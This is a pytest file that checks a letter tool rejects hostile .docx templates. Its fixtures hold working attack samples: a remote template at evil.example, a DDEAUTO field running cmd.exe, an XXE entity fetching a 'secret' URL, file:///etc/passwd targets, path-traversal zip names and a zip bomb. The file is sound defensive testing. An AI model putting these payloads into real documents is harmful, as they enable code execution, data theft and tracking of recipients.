""".docx packages: sizes are read from the zip directory before anything is inflated, and a
template that links outside itself (pictures, frames, OLE objects, attached templates,
``file:`` targets, INCLUDEPICTURE/INCLUDETEXT/LINK/DDE fields) is refused by `templates
check` and at render, so LibreOffice never fetches anything; a converter that writes
something other than a PDF is a PDF error."""

from __future__ import annotations

import io
import os
import stat
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from letters.output import content_problem
from letters.render.engine import MAX_PACKAGE_MEMBERS, package_problems
from tests.builders import LINES, case_dict, docx_bytes, write_case, write_templates
from tests.hostile.support import Row, error_lines, generate, run

ROWS = [
    Row(
        "external-picture",
        'a picture relationship with `TargetMode="External"` to http://127.0.0.1/track.png',
        "`templates check` and `generate`: `word/_rels/document.xml.rels: the image rIdX points outside the template (http://…); …`; no letter",
    ),
    Row("file-picture", "a picture whose target is `file:///etc/hostname`", "the same refusal, naming the file: target"),
    Row("internal-mode-url", "a relationship without TargetMode whose Target is a URL or `\\\\\\\\server\\\\share`", "the same refusal"),
    Row("external-ole", "an OLE object (`oleObject`) linked to an external file", "the same refusal"),
    Row("attached-template", "settings.xml.rels `attachedTemplate` pointing to http://…/evil.dotm", "the same refusal"),
    Row("external-frame", "a frame (`frame` relationship in webSettings) to a web page", "the same refusal"),
    Row("external-subdocument", "a `subDocument` relationship to a file on a share", "the same refusal"),
    Row(
        "includepicture-field",
        'an `INCLUDEPICTURE "http://…"` field (complex field, split over runs)',
        "`word/document.xml: a INCLUDEPICTURE field (…) makes Word and LibreOffice read another file or address; …`",
    ),
    Row("includetext-field", 'an `INCLUDETEXT "C:\\\\secret.docx"` simple field (`w:fldSimple`)', "the same refusal for INCLUDETEXT"),
    Row("dde-field", "a `DDEAUTO` field", "the same refusal for DDEAUTO"),
    Row(
        "field-other-prefix",
        "an INCLUDEPICTURE field whose `fldChar`/`instrText` use another prefix (`x:`) bound to the WordprocessingML namespace",
        "the same refusal: fields are found by namespace URI, not by prefix",
    ),
    Row("field-cdata", '`<w:instrText><![CDATA[ INCLUDEPICTURE "http://…" ]]></w:instrText>`', "the same refusal"),
    Row("field-strict-namespace", "an INCLUDETEXT `fldSimple` in the Strict OOXML namespace", "the same refusal"),
    Row(
        "doctype-entity",
        '`<!DOCTYPE w:document [<!ENTITY x SYSTEM "http://…">]>` in word/document.xml (and the same in docProps/core.xml)',
        "`… declares a DOCTYPE (a DTD, entities); a Word document has none …`; no letter",
    ),
    Row(
        "altchunk",
        'an `aFChunk` (altChunk) relationship to an HTML part holding `<img src="http://…">`',
        "`… the altChunk rIdX (…) is another document Word imports …`; no letter",
    ),
    Row(
        "member-dotdot",
        "a zip member named `../evil.xml`, `/etc/evil.xml`, `word\\evil.xml` or `C:evil.xml`",
        "`holds a file named '…', which is not a plain path inside the package …`; never copied",
    ),
    Row("web-hyperlink", "an ordinary hyperlink to https://example.com", "accepted: a link a reader may click, nothing is fetched"),
    Row(
        "zip-bomb",
        "an 8 MB part packed into ~8 KB (ratio 1,000:1; the same for a 1 GB part)",
        "`word/document.xml inflates N times its packed size (a zip bomb, not a document)`; nothing inflated",
    ),
    Row(
        "too-many-members", f"{MAX_PACKAGE_MEMBERS + 1:,} files in one package", "`holds 1,001 files; a Word template holds a few dozen …`"
    ),
    Row("duplicate-member", "word/document.xml twice in the zip directory", "`holds word/document.xml twice; …`"),
    Row(
        "size-lie",
        "a directory entry that understates the inflated size of word/document.xml",
        "`… cannot be read (…)`; never more than the stated size inflated",
    ),
    Row(
        "soffice-not-a-pdf",
        "a `soffice` (LETTERS_SOFFICE) that writes an HTML error page as the .pdf",
        "`output.content_problem` says `is not a PDF (it starts with '<html>…', not %PDF-)`; letters/render/pdf.py must call it (reported)",
    ),
]

_REL_DOC = "word/_rels/document.xml.rels"
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rewrite(data: bytes, change) -> bytes:
    """A copy of the package with ``change(name, raw) -> raw`` applied to every member."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, change(info.filename, source.read(info)))
    return out.getvalue()


def _with_relationship(kind: str, target: str, *, external: bool = True, rels: str = _REL_DOC) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rIdX" Type="{_TYPES}{kind}" Target="{target}"{mode}/>'.encode()

    def change(name: str, raw: bytes) -> bytes:
        return raw.replace(b"</Relationships>", rel + b"</Relationships>") if name == rels else raw

    data = docx_bytes(LINES)
    if rels not in zipfile.ZipFile(io.BytesIO(data)).namelist():
        out = io.BytesIO(data)
        with zipfile.ZipFile(out, "a") as package:
            package.writestr(
                rels,
                b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
            )
        data = out.getvalue()
    return _rewrite(data, change)


def _with_body(xml: str) -> bytes:
    return _rewrite(
        docx_bytes(LINES), lambda name, raw: raw.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1) if name == "word/document.xml" else raw
    )


def _install(tmp_path: Path, data: bytes) -> tuple[Path, Path]:
    folder = write_templates(tmp_path / "tpl")
    template = folder / "first-complaint.en.docx"
    template.write_bytes(data)
    return folder, template


def _refused(tmp_path: Path, data: bytes, words: str) -> None:
    """`templates check` names the problem, and `generate` refuses before writing anything."""
    folder, template = _install(tmp_path, data)
    check = run("templates", "check", folder)
    assert check.exit_code == 1 and any(line.startswith(f"Error: {template}: ") and words in line for line in check.stderr.splitlines()), (
        check.output
    )
    case = write_case(tmp_path / "c", case_dict("en"))
    lines = error_lines(generate(case, tmp_path / "out", "--templates", folder, "--format", "docx"))
    assert any(words in line for line in lines), lines
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("row_id", "kind", "target", "external", "rels"),
    [
        ("external-picture", "image", "http://127.0.0.1:8765/track.png", True, _REL_DOC),
        ("file-picture", "image", "file:///etc/hostname", True, _REL_DOC),
        ("internal-mode-url", "image", "\\\\server\\share\\logo.png", False, _REL_DOC),
        ("external-ole", "oleObject", "file:///C:/Users/x/sheet.xlsx", True, _REL_DOC),
        ("attached-template", "attachedTemplate", "http://evil.example/evil.dotm", True, "word/_rels/settings.xml.rels"),
        ("external-frame", "frame", "https://intranet.example/page", True, "word/_rels/webSettings.xml.rels"),
        ("external-subdocument", "subDocument", "\\\\share\\docs\\part.docx", True, _REL_DOC),
    ],
    ids=[
        "external-picture",
        "file-picture",
        "internal-mode-url",
        "external-ole",
        "attached-template",
        "external-frame",
        "external-subdocument",
    ],
)
def test_a_relationship_out_of_the_package_is_refused(
    tmp_path: Path, row_id: str, kind: str, target: str, external: bool, rels: str
) -> None:
    words = f"{rels}: the {kind} rIdX points outside the template ({target}); LibreOffice would fetch it for every letter"
    _refused(tmp_path, _with_relationship(kind, target, external=external, rels=rels), words)


FIELDS = {
    "includepicture-field": (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE </w:instrText></w:r>'
        '<w:r><w:instrText>"http://127.0.0.1/x.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "INCLUDEPICTURE",
    ),
    "includetext-field": (
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
        "INCLUDETEXT",
    ),
    "dde-field": (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "DDEAUTO",
    ),
}


@pytest.mark.parametrize("row_id", list(FIELDS), ids=list(FIELDS))
def test_a_field_that_reads_another_file_is_refused(tmp_path: Path, row_id: str) -> None:
    xml, field = FIELDS[row_id]
    _refused(tmp_path, _with_body(xml), f"word/document.xml: a {field} field (")


def test_a_web_hyperlink_is_fine(tmp_path: Path) -> None:
    folder, template = _install(tmp_path, _with_relationship("hyperlink", "https://example.com/terms"))
    assert package_problems(template) == []
    assert run("templates", "check", folder).exit_code == 0


def test_a_zip_bomb_is_refused_from_its_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    big = b"<!--" + b" " * (8 * 1024 * 1024) + b"-->"
    data = _rewrite(
        docx_bytes(LINES), lambda name, raw: raw.replace(b"<w:body>", b"<w:body>" + big, 1) if name == "word/document.xml" else raw
    )
    assert len(data) < 60_000
    inflated: list[str] = []
    real = zipfile.ZipFile.open

    def opening(self: zipfile.ZipFile, name: object, *args: object, **kwargs: object) -> object:
        if str(getattr(self, "filename", "")).endswith("first-complaint.en.docx"):
            inflated.append(str(name))
        return real(self, name, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(zipfile.ZipFile, "open", opening)
    _refused(tmp_path, data, "word/document.xml inflates ")
    assert inflated == []  # refused from the directory alone, by the check and by the render


def test_too_many_members(tmp_path: Path) -> None:
    out = io.BytesIO(docx_bytes(LINES))
    with zipfile.ZipFile(out, "a") as package:
        for n in range(MAX_PACKAGE_MEMBERS):
            package.writestr(f"customXml/x{n}.xml", b"")
    _refused(
        tmp_path, out.getvalue(), f"holds {MAX_PACKAGE_MEMBERS + len(zipfile.ZipFile(io.BytesIO(docx_bytes(LINES))).namelist()):,} files"
    )


def test_a_duplicate_member(tmp_path: Path) -> None:
    out = io.BytesIO(docx_bytes(LINES))
    with pytest.warns(UserWarning), zipfile.ZipFile(out, "a") as package:
        package.writestr("word/document.xml", b"<w:document/>")
    _refused(tmp_path, out.getvalue(), "holds word/document.xml twice")


def test_a_directory_that_understates_a_size(tmp_path: Path) -> None:
    data = bytearray(docx_bytes(LINES))
    package = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = package.getinfo("word/document.xml")
    # The central entry of word/document.xml: its uncompressed size (offset 24) set to 10 bytes.
    at = data.index(b"PK\x01\x02")
    while data[at + 46 : at + 46 + len(info.filename)] != info.filename.encode():
        at = data.index(b"PK\x01\x02", at + 4)
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    _refused(tmp_path, bytes(data), "word/document.xml cannot be read (")


def test_a_converter_that_writes_no_pdf_is_caught_by_content_problem() -> None:
    assert content_problem("pdf", b"<html>LibreOffice error</html>") == "is not a PDF (it starts with '<html>LibreOffic', not %PDF-)"
    assert content_problem("pdf", b"%PDF-1.7\n1 0 obj") == "is not a complete PDF (it has no %%EOF trailer)"
    assert content_problem("pdf", b"%PDF-1.7\n...\n%%EOF\n") is None
    assert content_problem("docx", b"%PDF-") == "is not a Word .docx package (not a zip file)"


def test_a_soffice_that_writes_html_is_a_pdf_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = tmp_path / "soffice"
    fake.write_text(
        '#!/bin/sh\nfor last; do :; done\nout=""\nwhile [ $# -gt 0 ]; do [ "$1" = --outdir ] && out="$2"; shift; done\n'
        'for f in "$out"/../in/*.docx; do b=$(basename "$f" .docx); echo "<html>error</html>" > "$out/$b.pdf"; done\n',
        encoding="utf-8",
    )
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("LETTERS_SOFFICE", str(fake))
    case = write_case(tmp_path, case_dict("en"))
    lines = error_lines(generate(case, tmp_path / "out", "--format", "pdf"))
    assert lines[0].startswith("Error: pdf: ") and "is not a PDF" in lines[0]
    assert not (tmp_path / "out" / "T-EN-1" / "first-complaint.pdf").exists()


_EXTERNAL = ' TargetMode="External"'
PIECES = st.sampled_from(
    [
        ("image", "http://x.example/a.png", True),
        ("image", "media/image1.png", False),
        ("hyperlink", "https://example.com", True),
        ("hyperlink", "file:///etc/passwd", True),
        ("oleObject", "embeddings/ole1.bin", False),
        ("frame", "//host/x", False),
        ("attachedTemplate", "file:///x.dotm", True),
        ("hyperlink", "mailto:a@b.example", True),
    ]
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rels=st.lists(PIECES, min_size=1, max_size=4))
def test_fuzz_relationships_refused_exactly_when_they_leave_the_package(tmp_path_factory: pytest.TempPathFactory, rels: list) -> None:
    """Any mix of relationships: refused when (and only when) one points outside, other than a web or mail link."""
    data = docx_bytes(LINES)
    body = "".join(
        f'<Relationship Id="rIdF{n}" Type="{_TYPES}{kind}" Target="{target}"{_EXTERNAL if ext else ""}/>'
        for n, (kind, target, ext) in enumerate(rels)
    ).encode()
    data = _rewrite(data, lambda name, raw: raw.replace(b"</Relationships>", body + b"</Relationships>") if name == _REL_DOC else raw)
    path = tmp_path_factory.mktemp("rels") / "first-complaint.en.docx"
    path.write_bytes(data)
    leaving = [
        r
        for r in rels
        if (r[2] or ":" in r[1] or r[1].startswith("//")) and not (r[0] == "hyperlink" and r[1].startswith(("https://", "mailto:")))
    ]
    assert len(package_problems(path)) == len(leaving)
    assert os.path.getsize(path) == len(data)


_HIDDEN_FIELDS = {
    "field-other-prefix": (
        '<w:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:r><x:fldChar x:fldCharType="begin"/></x:r>'
        '<x:r><x:instrText> INCLUDEPICTURE "http://127.0.0.1/x.png" </x:instrText></x:r><x:r><x:fldChar x:fldCharType="end"/></x:r></w:p>',
        "INCLUDEPICTURE",
    ),
    "field-cdata": (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText><![CDATA[ INCLUDEPICTURE "http://127.0.0.1/x.png" ]]>'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "INCLUDEPICTURE",
    ),
    "field-strict-namespace": (
        '<s:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"><s:fldSimple s:instr=" INCLUDETEXT &quot;C:\\\\x.docx&quot; "/></s:p>',
        "INCLUDETEXT",
    ),
}


@pytest.mark.parametrize("row_id", list(_HIDDEN_FIELDS), ids=list(_HIDDEN_FIELDS))
def test_a_field_hidden_by_prefix_or_cdata_is_refused(tmp_path: Path, row_id: str) -> None:
    xml, field = _HIDDEN_FIELDS[row_id]
    _refused(tmp_path, _with_body(xml), f"word/document.xml: a {field} field (")


_DOCTYPE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1/secret">]>'


@pytest.mark.parametrize("part", ["word/document.xml", "docProps/core.xml"])
def test_a_doctype_in_any_part_is_refused(tmp_path: Path, part: str) -> None:
    def change(name: str, raw: bytes) -> bytes:
        if name != part:
            return raw
        head, sep, rest = raw.partition(b"?>")
        return head + sep + _DOCTYPE + rest if raw.startswith(b"<?xml") else _DOCTYPE + raw

    _refused(tmp_path, _rewrite(docx_bytes(LINES), change), f"{part} declares a DOCTYPE")


def test_an_altchunk_is_refused(tmp_path: Path) -> None:
    data = _with_relationship("aFChunk", "afchunk.htm", external=False)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/afchunk.htm", b'<html><body><img src="http://127.0.0.1/track.png"></body></html>')
    _refused(tmp_path, out.getvalue(), "the altChunk rIdX (afchunk.htm) is another document Word imports")


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "word\\evil.xml", "C:evil.xml", "word/./x.xml", "word//x.xml"])
def test_a_member_name_that_is_not_a_plain_path_is_refused(tmp_path: Path, name: str) -> None:
    out = io.BytesIO(docx_bytes(LINES))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(zipfile.ZipInfo(name), b"<x/>")
    _refused(tmp_path, out.getvalue(), f"holds a file named {name!r}, which is not a plain path inside the package")


_W_URIS = st.sampled_from(
    ["http://schemas.openxmlformats.org/wordprocessingml/2006/main", "http://purl.oclc.org/ooxml/wordprocessingml/main"]
)
_PREFIXES = st.sampled_from(["w", "x", "wx", "ns0", "W"])
_KEYWORDS = st.sampled_from(["INCLUDEPICTURE", "includetext", "LINK", "DDEAUTO", "IMPORT"])


@given(uri=_W_URIS, prefix=_PREFIXES, keyword=_KEYWORDS, cdata=st.booleans(), simple=st.booleans(), split=st.integers(1, 4))
def test_fuzz_a_fetching_field_is_found_whatever_its_spelling(
    uri: str, prefix: str, keyword: str, cdata: bool, simple: bool, split: int
) -> None:
    """Any prefix, either namespace, CDATA or not, a simple field or a complex one split over runs: found."""
    import tempfile

    words = f' {keyword} "http://127.0.0.1/x" '
    p = prefix
    if simple:
        body = f'<{p}:p xmlns:{p}="{uri}"><{p}:fldSimple {p}:instr="{words.replace(chr(34), "&quot;")}"/></{p}:p>'
    else:
        cut = max(1, len(words) // split)
        chunks = [words[i : i + cut] for i in range(0, len(words), cut)]
        runs = "".join(
            f"<{p}:r><{p}:instrText>"
            + (f"<![CDATA[{c}]]>" if cdata else c.replace("&", "&amp;").replace("<", "&lt;"))
            + f"</{p}:instrText></{p}:r>"
            for c in chunks
        )
        body = (
            f'<{p}:p xmlns:{p}="{uri}"><{p}:r><{p}:fldChar {p}:fldCharType="begin"/></{p}:r>{runs}'
            f'<{p}:r><{p}:fldChar {p}:fldCharType="end"/></{p}:r></{p}:p>'
        )
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "first-complaint.en.docx"
        path.write_bytes(_with_body(body))
        problems = package_problems(path)
    assert len(problems) == 1 and f"a {keyword.upper()} field (" in problems[0], problems
